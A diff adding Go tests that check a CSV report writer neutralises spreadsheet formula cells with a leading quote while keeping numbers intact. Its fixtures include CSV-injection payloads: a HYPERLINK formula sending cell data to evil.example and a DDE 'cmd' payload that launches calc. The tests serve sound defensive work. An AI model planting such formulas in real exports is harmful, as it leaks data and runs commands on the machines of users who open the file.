@@ -167,3 +167,102 @@ func TestWriteReportCSVUnknownTable(t *testing.T) {
 		t.Errorf("wrote %q", b.String())
 	}
 }
+
+// TestWriteReportCSVNeutralisesFormulas: a cell a spreadsheet would evaluate
+// (=, +, -, @, tab, carriage return first) comes out with a leading single
+// quote in every table and in the all-tables file; numbers, also negative
+// ones, stay numbers.
+func TestWriteReportCSVNeutralisesFormulas(t *testing.T) {
+	rep := reportFixture(models.LangNB)
+	hostile := []string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`,
+		"+SUM(1,2)",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(A1:A9)",
+		"\t=1+1",
+		"\r=1+1",
+		"-",
+		"-1e5x",
+		"+0x10",
+	}
+	rep.Records.Initiatives[0].Title = hostile[0]
+	rep.Records.Initiatives[1].Title = hostile[1]
+	rep.Records.Initiatives[0].Violations[0].Message = hostile[2]
+	rep.Portfolio.Violations[0].Message = hostile[3]
+	rep.Portfolio.Violations[1].Message = hostile[4]
+	rep.Portfolio.Violations[0].Reference = hostile[5]
+	rep.Portfolio.Figures.Sectors[0].Name = hostile[6]
+	rep.Portfolio.Figures.Sectors[1].Name = hostile[7]
+	rep.Records.ByRule[0].Key = hostile[8]
+	for _, table := range append([]string{""}, ReportTableNames...) {
+		var b bytes.Buffer
+		if err := WriteReportCSV(&b, rep, table); err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range readCSV(t, b.Bytes()) {
+			for _, cell := range row {
+				if cell == "" {
+					continue
+				}
+				switch cell[0] {
+				case '=', '+', '-', '@', '\t', '\r':
+					if !isDecimal(cell) {
+						t.Errorf("table %q: cell %q is not neutralised", table, cell)
+					}
+				}
+			}
+		}
+	}
+	var b bytes.Buffer
+	if err := WriteReportCSV(&b, rep, ""); err != nil {
+		t.Fatal(err)
+	}
+	cells := map[string]bool{}
+	for _, row := range readCSV(t, b.Bytes()) {
+		for _, cell := range row {
+			cells[cell] = true
+		}
+	}
+	for _, h := range hostile {
+		if !cells["'"+h] {
+			t.Errorf("%q is not in the file as '%s", h, h)
+		}
+	}
+	for _, n := range []string{"-120000", "-1000.5", "-1000", "5400", "0.7"} {
+		if !cells[n] {
+			t.Errorf("the number %s is not in the file as it was", n)
+		}
+	}
+	if rep.Records.Initiatives[0].Title != hostile[0] {
+		t.Errorf("the report itself was changed")
+	}
+}
+
+func TestSafeCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"":                   "",
+		"Digital skolestart": "Digital skolestart",
+		"=1+1":               "'=1+1",
+		"+1+1":               "'+1+1",
+		"-1+1":               "'-1+1",
+		"@A1":                "'@A1",
+		"\tx":                "'\tx",
+		"\rx":                "'\rx",
+		"-120000":            "-120000",
+		"-1000.5":            "-1000.5",
+		"+42":                "+42",
+		"-.5":                "-.5",
+		"-1.5e-3":            "-1.5e-3",
+		"-1e":                "'-1e",
+		"-.":                 "'-.",
+		"-Inf":               "'-Inf",
+		"- 5":                "'- 5",
+		"a=1":                "a=1",
+		"/budget/0":          "/budget/0",
+		"'=1":                "'=1",
+	} {
+		if got := safeCell(in); got != want {
+			t.Errorf("safeCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
